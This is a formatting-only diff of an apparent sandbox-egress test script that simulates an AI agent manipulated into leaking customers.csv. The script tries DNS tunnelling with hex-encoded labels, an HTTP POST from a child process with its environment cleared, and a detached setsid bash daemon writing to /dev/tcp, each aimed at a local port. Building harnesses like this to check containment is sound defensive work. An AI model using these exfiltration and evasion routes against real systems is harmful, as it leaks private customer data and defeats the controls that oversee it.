@@ -1,5 +1,6 @@
-// An agent that was talked into leaking customers.csv. It tries every way in turn and prints what it saw: a line with the way, a tab and a word.
-// PORTS in its environment says at which port of this machine each way ends: {"tcp":…,"dns":…,…}.
+// An agent that was talked into leaking customers.csv. It tries every way in turn and prints what
+// it saw: a line with the way, a tab and a word. PORTS in its environment says at which port of
+// this machine each way ends: {"tcp":…,"dns":…,…}.
 import { spawn } from "node:child_process";
 import { createSocket } from "node:dgram";
 import { readFileSync } from "node:fs";
@@ -20,8 +21,14 @@ function questionWith(text) {
     .toString("hex")
     .match(/.{1,60}/g)
     .slice(0, 4);
-  const name = labels.map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
-  return Buffer.concat([Buffer.from("000101000001000000000000", "hex"), ...name, Buffer.from("0000010001", "hex")]);
+  const name = labels.map((label) =>
+    Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]),
+  );
+  return Buffer.concat([
+    Buffer.from("000101000001000000000000", "hex"),
+    ...name,
+    Buffer.from("0000010001", "hex"),
+  ]);
 }
 
 const dns = (port) =>
@@ -29,7 +36,9 @@ const dns = (port) =>
     const socket = createSocket("udp4");
     const end = (saw) => resolve(saw) ?? socket.close();
     socket.on("error", ({ code }) => end(code));
-    socket.send(questionWith(loot), port, "127.0.0.1", (error) => end(error === null ? "sent" : error.code));
+    socket.send(questionWith(loot), port, "127.0.0.1", (error) =>
+      end(error === null ? "sent" : error.code),
+    );
   });
 
 /** Runs a program; what it prints first. */
@@ -42,10 +51,12 @@ const run = (program, args, options) =>
 
 const POST = `fetch(process.argv[1], { method: "POST", body: process.argv[2] })
   .then((answer) => console.log(answer.status), (error) => console.log(error.cause?.code ?? error.message))`;
-const unset = (port) => run(process.execPath, ["-e", POST, `http://127.0.0.1:${port}/`, loot], { env: {} });
+const unset = (port) =>
+  run(process.execPath, ["-e", POST, `http://127.0.0.1:${port}/`, loot], { env: {} });
 
 const TRY = `{ printf %s "$1" >"/dev/tcp/127.0.0.1/$2"; } 2>/dev/null && echo sent || echo refused; sleep 60`;
-const daemon = (port) => run("setsid", ["bash", "-c", TRY, "bash", loot, String(port)], { detached: true });
+const daemon = (port) =>
+  run("setsid", ["bash", "-c", TRY, "bash", loot, String(port)], { detached: true });
 
 async function post(url) {
   try {
